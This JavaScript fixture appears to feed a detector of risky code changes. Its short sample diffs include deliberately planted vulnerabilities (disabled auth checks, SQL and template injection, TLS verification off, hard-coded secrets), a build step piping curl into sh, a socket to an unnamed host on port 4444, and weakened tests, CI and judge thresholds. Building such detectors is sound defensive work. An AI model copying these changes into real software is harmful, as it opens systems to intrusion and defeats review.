// A later set of dangerous changes, written before its first run: every cause of the design's list at least twice, in many
// languages. Its first run caught 27 of 49; what it missed changed the rules, so it counts as tuned since.
const change = (name, path, added, removed = [], more = {}) => ({ name, path, added, removed, ...more });

export const tunedLater = [
  // authentication
  change(
    'lockout dropped',
    'src/Controllers/LoginController.cs',
    [
      '        var result = await _signInManager.PasswordSignInAsync(model.Email, model.Password, model.RememberMe, false);',
    ],
    [
      '        var result = await _signInManager.PasswordSignInAsync(model.Email, model.Password, model.RememberMe, lockoutOnFailure: true);',
    ],
  ),
  change(
    'login throttle gone',
    'app/Http/Controllers/Auth/LoginController.php',
    [],
    [
      '        if ($this->hasTooManyLoginAttempts($request)) {',
      '            return $this->sendLockoutResponse($request);',
      '        }',
    ],
  ),
  change(
    'empty password accepted by the directory',
    'src/auth/ldap.c',
    ['    rc = ldap_simple_bind_s(ld, dn, password);'],
    [
      '    if (password == NULL || password[0] == 0)',
      '        return AUTH_FAIL;',
      '    rc = ldap_simple_bind_s(ld, dn, password);',
    ],
  ),
  change(
    'expiry of a token ignored',
    'pkg/auth/token.go',
    ['\ttoken, err := jwt.ParseWithClaims(raw, claims, keyFunc, jwt.WithoutClaimsValidation())'],
    ['\ttoken, err := jwt.ParseWithClaims(raw, claims, keyFunc)'],
  ),
  // authorisation
  change(
    'object of somebody else',
    'app/controllers/invoices_controller.rb',
    ['    @invoice = Invoice.find(params[:id])'],
    ['    @invoice = current_user.invoices.find(params[:id])'],
  ),
  change(
    'policy answers yes',
    'app/Policies/PostPolicy.php',
    ['        return true;'],
    ['        return $user->id === $post->user_id;'],
  ),
  change(
    'role check with or',
    'src/main/java/app/SecurityConfig.java',
    ['            .requestMatchers("/admin/**").permitAll()'],
    ['            .requestMatchers("/admin/**").hasRole("ADMIN")'],
  ),
  // secrets
  change('token in a header', 'internal/client/client.go', [
    '\treq.Header.Set("Authorization", "Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.dGhpc2lzbm90YXJlYWxzaWc")',
  ]),
  change('environment dumped into a log', 'src/bootstrap.ts', [
    "  logger.info('starting', { env: process.env });",
  ]),
  change('database address with its password', 'config/settings.py', [
    'DATABASE_URL = "postgres://app:Gr8tPassw0rd@db.internal:5432/app"',
  ]),
  // cryptography
  change(
    'constant salt',
    'src/crypto/kdf.rs',
    ['    let salt = b"static-salt-0001"; argon2.hash_password_into(password, salt, &mut key)?;'],
    ['    OsRng.fill_bytes(&mut salt); argon2.hash_password_into(password, &salt, &mut key)?;'],
  ),
  change(
    'weak random for a session',
    'src/Session.java',
    ['        this.sessionId = Long.toHexString(new Random().nextLong());'],
    ['        this.sessionId = HexFormat.of().formatHex(SecureRandom.getInstanceStrong().generateSeed(16));'],
  ),
  change(
    'peer not verified in C',
    'lib/tls.c',
    ['    SSL_CTX_set_verify(ctx, SSL_VERIFY_NONE, NULL);'],
    ['    SSL_CTX_set_verify(ctx, SSL_VERIFY_PEER, NULL);'],
  ),
  // payments
  change(
    'webhook pays again',
    'billing/webhooks.py',
    ['    invoice.mark_paid(); wallet.credit(invoice.customer, invoice.amount)'],
    [
      '    if event.id in processed_events: return',
      '    invoice.mark_paid(); wallet.credit(invoice.customer, invoice.amount)',
    ],
  ),
  change(
    'idempotency key dropped',
    'src/payments/charge.ts',
    ['  const intent = await client.paymentIntents.create({ amount, currency, customer });'],
    [
      '  const intent = await client.paymentIntents.create({ amount, currency, customer }, { idempotencyKey });',
    ],
  ),
  // personal data
  change(
    'emails in an export for everybody',
    'app/exports/users.rb',
    ['    csv << [user.name, user.email, user.phone_number, user.date_of_birth]'],
    ['    csv << [user.name]'],
  ),
  change('addresses of people into the log', 'src/main/kotlin/Orders.kt', [
    '        log.info("order for ${customer.fullName}, ${customer.email}, ${customer.homeAddress}")',
  ]),
  // deletion
  change('retention set to nothing', 'jobs/cleanup.go', [
    '\tif err := os.RemoveAll(filepath.Join(root, name)); err != nil {',
  ]),
  change(
    'bucket emptied',
    'tools/prune.py',
    ['    s3.Bucket(name).objects.all().delete()'],
    ['    s3.Bucket(name).objects.filter(Prefix=prefix).delete()'],
  ),
  // parsing of untrusted input
  change(
    'bounds check gone',
    'src/decoder.c',
    ['    memcpy(out->data, packet + 4, length);'],
    [
      '    if (length > sizeof(out->data))',
      '        return -EINVAL;',
      '    memcpy(out->data, packet + 4, length);',
    ],
  ),
  change('template made of a request', 'web/views.py', [
    '    return render_template_string("Hello " + request.args["name"])',
  ]),
  change(
    'external entities on',
    'src/Import.java',
    ['        factory.setFeature("http://apache.org/xml/features/disallow-doctype-decl", false);'],
    ['        factory.setFeature("http://apache.org/xml/features/disallow-doctype-decl", true);'],
  ),
  change(
    'statement from a format in go',
    'store/find.go',
    ['\trows, err := db.Query(fmt.Sprintf("SELECT id FROM users WHERE name = \'%s\'", name))'],
    ['\trows, err := db.Query("SELECT id FROM users WHERE name = $1", name)'],
  ),
  // sandbox and permission code
  change(
    'filter of system calls off',
    'src/worker/jail.rs',
    ['    // the filter broke a test', '    let filter = SeccompFilter::allow_all();'],
    ['    let filter = SeccompFilter::new(rules, SeccompAction::KillProcess)?;'],
  ),
  change(
    'preload without isolation',
    'src/main/window.ts',
    ['    webPreferences: { preload, contextIsolation: false, sandbox: false },'],
    ['    webPreferences: { preload },'],
  ),
  change('set-user-id on a helper', 'scripts/install.sh', ['chmod 4755 "$DESTDIR/usr/lib/app/helper"']),
  // build, CI, install script, guardrail, test, judge, vault, policy configuration
  change(
    'action of a moving branch',
    '.github/workflows/release.yml',
    ['      - uses: someone/publish@main'],
    ['      - uses: someone/publish@8f4b7f84864484a7bf31766abe9204da3cbe65b3'],
  ),
  change(
    'errors of the build ignored',
    'Makefile',
    ['test:', '\t-go test ./...'],
    ['test:', '\tgo test ./...'],
  ),
  change('build script downloads', 'build.rs', [
    '    Command::new("sh").arg("-c").arg("curl -s $URL | sh").status()?;',
  ]),
  change('thresholds of the judge', 'dimmer.yaml', ['  bar: 0.5'], ['  bar: 0.95']),
  change('pipeline may fail', '.gitlab-ci.yml', ['  allow_failure: true']),
  change('policy opened', 'policy/admission.rego', ['default allow = true'], ['default allow = false']),
  // schema or data migration
  change('not null without a default', 'src/main/resources/db/migration/V12__owner.sql', [
    'ALTER TABLE notes ALTER COLUMN owner SET NOT NULL;',
  ]),
  change('data rewritten in a migration', 'apps/core/migrations/0031_emails.py', [
    '    for user in User.objects.all(): user.email = user.email.lower(); user.save()',
  ]),
  // tests
  change(
    'test body returns early',
    'tests/unit/test_tax.py',
    ['    return', '    assert tax(100) == 19'],
    ['    assert tax(100) == 19'],
  ),
  change(
    'tolerance widened',
    'src/test/java/PriceTest.java',
    ['        assertEquals(19.0, tax(100), 50.0);'],
    ['        assertEquals(19.0, tax(100), 0.01);'],
  ),
  change('junit test disabled', 'src/test/java/CartTest.java', ['    @Disabled("flaky")']),
  change(
    'skipped in rspec',
    'spec/models/order_spec.rb',
    ["  xit 'refuses a negative amount' do"],
    ["  it 'refuses a negative amount' do"],
  ),
  // suppression
  change('unsafe silenced', 'src/lib.rs', ['#![allow(clippy::all)]']),
  change('analysis silenced in php', 'src/Pay.php', [
    '        // @phpstan-ignore-next-line',
    '        return $this->pay($amount);',
  ]),
  // privileged surface
  change('debug endpoint', 'cmd/server/main.go', ['\tgo http.ListenAndServe("0.0.0.0:6060", nil)'], [], {
    surface: [{ kind: 'endpoint', name: '6060', privileged: true, breaking: false, named: false }],
  }),
  change('a binary that installs itself', 'package.json', ['    "install": "node-gyp rebuild",'], [], {
    surface: [{ kind: 'install-script', name: 'install', privileged: true, breaking: false, named: false }],
  }),
  // new egress
  change('crash reports to a new host', 'src/crash.cpp', [
    '    curl_easy_setopt(curl, CURLOPT_URL, "https://crash.intake-eu.io/submit");',
  ]),
  change('gem server', 'lib/update.rb', [
    "    Net::HTTP.post(URI('https://beacon.updates.cloud/v2'), payload.to_json)",
  ]),
  change('an address without a name', 'src/net/report.py', ['    sock.connect(("45.77.12.9", 4444))']),
  // binary content
  change('a jar', 'lib/helper.jar', ['\u0000']),
  change('code in base64', 'src/util/loader.js', [
    "  const code = Buffer.from('" + 'QUJD'.repeat(700) + "', 'base64').toString();",
  ]),
  // incomplete provenance
  change('a commit that nobody recorded', 'src/total.ts', ['  return sum;'], ['  return sum + tax;'], {
    provenance: ['1 of 3 commits of the result were not recorded by this run'],
  }),
  change('a branch moved by hand', 'README.md', ['Now with totals.'], [], {
    provenance: ['the branch was changed by hand after the last recorded step'],
  }),
];
